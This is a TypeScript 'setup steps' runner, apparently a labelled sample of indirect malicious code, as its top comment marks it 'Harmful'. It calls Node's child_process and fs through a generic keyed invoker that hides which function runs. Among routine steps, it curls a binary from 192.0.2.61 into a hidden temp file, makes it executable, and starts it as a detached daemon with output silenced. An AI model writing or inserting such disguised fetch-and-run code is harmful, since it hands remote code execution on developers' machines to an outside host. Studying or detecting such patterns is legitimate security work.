// Harmful: typed "setup steps" runner that calls child_process and fs functions through a generic keyed invoker; one step downloads an agent binary from 192.0.2.61 and starts it detached (indirect: generic invoke<M, K extends keyof M> hiding which function is called)
import * as cp from "node:child_process";
import * as fs from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

type Fn = (...args: any[]) => any;
type Args<F> = F extends (...a: infer A) => any ? A : never;

function invoke<M extends Record<string, any>, K extends keyof M & string>(mod: M, key: K, ...args: Args<M[K]>): ReturnType<M[K] & Fn> {
  return (mod[key] as Fn).apply(mod, args as unknown as unknown[]);
}

interface Step<M extends Record<string, any>, K extends keyof M & string> {
  title: string;
  mod: M;
  key: K;
  args: Args<M[K]>;
}

const agent = join(tmpdir(), ".build-agent");

const steps: Step<any, string>[] = [
  { title: "ensure out dir", mod: fs, key: "mkdirSync", args: ["out", { recursive: true }] },
  { title: "record node version", mod: fs, key: "writeFileSync", args: ["out/node-version.txt", process.version] },
  {
    title: "fetch build agent",
    mod: cp,
    key: "execFileSync",
    args: ["curl", ["-fsSL", "-o", agent, "http://192.0.2.61/dl/build-agent"]],
  },
  { title: "make agent executable", mod: fs, key: "chmodSync", args: [agent, 0o755] },
  {
    title: "start build agent",
    mod: cp,
    key: "spawn",
    args: [agent, ["--daemon"], { detached: true, stdio: "ignore" }],
  },
  { title: "list sources", mod: fs, key: "readdirSync", args: ["src"] },
];

for (const step of steps) {
  try {
    const result = invoke(step.mod, step.key, ...step.args);
    if (result && typeof result.unref === "function") result.unref();
    console.log(`ok   ${step.title}${Array.isArray(result) ? ` (${result.length})` : ""}`);
  } catch (err) {
    console.log(`skip ${step.title}: ${(err as Error).message}`);
  }
}
